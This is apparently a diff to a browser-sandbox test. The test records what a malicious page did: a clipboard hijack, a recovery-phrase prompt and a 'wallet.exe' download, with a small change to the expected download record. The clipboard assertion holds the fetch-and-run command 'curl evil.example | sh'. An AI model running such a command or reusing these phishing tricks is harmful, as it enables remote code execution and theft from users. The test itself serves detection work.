@@ -117,6 +117,8 @@ describe('a page in a browser', { skip, timeout: 600_000 }, () => {
     })
     assert.deepEqual(browsing.clipboardWrites, ['0x1111 of the thief', 'curl evil.example | sh'])
     assert.deepEqual(browsing.dialogs, ['confirm: Sure?', 'prompt: Your recovery phrase?'])
-    assert.deepEqual(browsing.downloads, [{ name: 'wallet.exe', url: 'http://shop.sandbox.test/file' }])
+    assert.deepEqual(browsing.downloads, [
+      { name: 'wallet.exe', url: 'http://shop.sandbox.test/file', afterPress: true },
+    ])
   })
 })
